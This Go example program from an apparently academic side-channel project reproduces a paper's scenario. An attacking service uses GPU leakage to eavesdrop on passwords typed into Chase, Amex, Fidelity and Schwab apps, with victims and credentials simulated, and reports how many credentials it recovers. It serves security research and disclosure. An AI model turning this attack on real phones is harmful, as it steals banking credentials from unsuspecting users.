// Bankinglogin reproduces the paper's motivating scenario end to end: a
// user logs into several banking/investment apps while behaving
// naturally — making typos and corrections, switching to other apps
// mid-entry, glancing at notifications (§8). The attacking service keeps
// monitoring throughout and reports each recovered credential.
package main

import (
	"context"
	"fmt"
	"log"

	"gpuleak"
	"gpuleak/internal/stats"
)

func main() {
	ctx := context.Background()
	log.SetFlags(0)

	apps := []*gpuleak.App{gpuleak.Chase, gpuleak.Amex, gpuleak.Fidelity, gpuleak.Schwab}
	credentials := []string{"k9mzpt3a", "rossetti42", "n0v4sc0tia", "blue7whale"}

	exact := 0
	var totalEdit int
	for i, app := range apps {
		cfg := gpuleak.VictimConfig{
			Device: gpuleak.OnePlus8Pro,
			App:    app,
			Seed:   int64(100 + i),
		}
		// One classifier per (device, configuration); the attacker ships
		// them all preloaded (§3.2).
		model, err := gpuleak.TrainContext(ctx, cfg, gpuleak.CollectOptions{})
		if err != nil {
			log.Fatalf("training for %s: %v", app.Name, err)
		}

		// Natural usage: corrections, app switches, notification glances.
		vol := gpuleak.Volunteers[i%len(gpuleak.Volunteers)]
		session := gpuleak.NewVictim(cfg)
		session.Run(gpuleak.PracticalSession(credentials[i], vol, int64(500+i)))

		file, err := session.Open()
		if err != nil {
			log.Fatal(err)
		}
		res, err := gpuleak.NewAttack(model).EavesdropContext(ctx, file, 0, session.End)
		if err != nil {
			log.Fatal(err)
		}

		truth := session.TypedText()
		ed := stats.Levenshtein(res.Text, truth)
		totalEdit += ed
		if res.Text == truth {
			exact++
		}
		fmt.Printf("%-10s typed=%-12q eavesdropped=%-12q corrections=%d switches=%d edit=%d\n",
			app.Name, truth, res.Text, res.Stats.Corrections, res.Stats.Switches, ed)
	}
	fmt.Printf("\nrecovered %d/%d credentials exactly; total edit distance %d\n",
		exact, len(apps), totalEdit)
}
